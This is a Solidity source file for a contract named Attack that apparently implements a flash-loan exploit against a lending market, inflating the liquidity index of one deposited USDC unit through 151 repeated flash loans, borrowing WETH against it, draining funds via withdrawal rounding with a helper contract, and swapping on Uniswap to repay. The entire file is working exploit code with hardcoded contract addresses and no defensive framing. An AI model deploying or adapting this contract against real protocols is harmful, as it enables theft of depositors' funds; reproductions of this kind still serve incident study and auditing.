// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Erc20} from "../Erc20.sol";
import {UniswapV3Pool} from "../UniswapV3Pool.sol";
import {LendingPool} from "../LendingPool.sol";
import {Rounder} from "./Rounder.sol";

/// Borrows WETH against one unit of USDC supply. Flash-loan premiums on that unit have lifted the liquidity index until
/// the unit is worth 271,800 USDC; rounding in withdrawals then returns what the premiums cost.
contract Attack {
    LendingPool constant AAVE = LendingPool(0x794a61358D6845594F94dc1DB02A252b5b4814aD);
    LendingPool constant RADIANT = LendingPool(0xF4B1486DD74D07706052A33d31d7c0AAFD0659E1);
    address constant R_USDC = 0x3a2d44e354f2d88EF6DA7A5A4646fd70182A7F55;
    Erc20 constant USDC = Erc20(0xaf88d065e77c8cC2239327C5EDb3A432268e5831);
    Erc20 constant WETH = Erc20(0x82aF49447D8a07e3bd95BD0d56f35241523fBab1);
    UniswapV3Pool constant WETH_USDC = UniswapV3Pool(0xC6962004f452bE9203591991D15f6b388e09E8D0);

    uint256 constant CAPITAL = 3_000_000e6;
    uint256 constant SEED = 2_000_000e6;
    uint256 constant ROUNDS = 151;
    uint256 constant DEBT_WETH = 90_690_695_360_221_284_999;
    uint160 constant MIN_SQRT_PRICE = 4_295_128_740;
    uint160 constant MAX_SQRT_PRICE = 1_461_446_703_485_210_103_287_273_052_203_988_822_378_723_970_341;

    bool private oneUnitLeft;

    function attack() external {
        flashLoan(AAVE, CAPITAL);
    }

    function executeOperation(
        address[] calldata,
        uint256[] calldata amounts,
        uint256[] calldata premiums,
        address,
        bytes calldata
    ) external returns (bool) {
        if (msg.sender == address(AAVE)) spend(amounts[0] + premiums[0]);
        else if (!oneUnitLeft) leaveOneUnit();
        return true;
    }

    function spend(uint256 owed) private {
        USDC.approve(address(AAVE), type(uint256).max);
        USDC.approve(address(RADIANT), type(uint256).max);
        RADIANT.deposit(address(USDC), SEED, address(this), 0);
        for (uint256 i = 0; i < ROUNDS; i++) flashLoan(RADIANT, SEED);
        RADIANT.borrow(address(WETH), DEBT_WETH, 2, 0, address(this));

        // All premiums were earned by the one unit that is left.
        uint256 unit = SEED * 9 / 10_000 * ROUNDS + 1;
        Rounder rounder = new Rounder();
        USDC.transfer(address(rounder), 2 * unit);
        rounder.drain(RADIANT, USDC, R_USDC, unit);

        WETH_USDC.swap(address(this), true, 2 ether, MIN_SQRT_PRICE, "");
        int256 rest = int256(USDC.balanceOf(address(this)) - owed);
        WETH_USDC.swap(address(this), false, rest, MAX_SQRT_PRICE, "");
    }

    /// During the first flash loan: pays the loan into the market directly, so that the own deposit can leave.
    function leaveOneUnit() private {
        oneUnitLeft = true;
        USDC.transfer(R_USDC, SEED);
        RADIANT.withdraw(address(USDC), SEED - 1, address(this));
    }

    function flashLoan(LendingPool lender, uint256 amount) private {
        address[] memory assets = new address[](1);
        uint256[] memory amounts = new uint256[](1);
        (assets[0], amounts[0]) = (address(USDC), amount);
        lender.flashLoan(address(this), assets, amounts, new uint256[](1), address(this), "", 0);
    }

    function uniswapV3SwapCallback(int256 wethOwed, int256 usdcOwed, bytes calldata) external {
        if (wethOwed > 0) WETH.transfer(msg.sender, uint256(wethOwed));
        if (usdcOwed > 0) USDC.transfer(msg.sender, uint256(usdcOwed));
    }
}
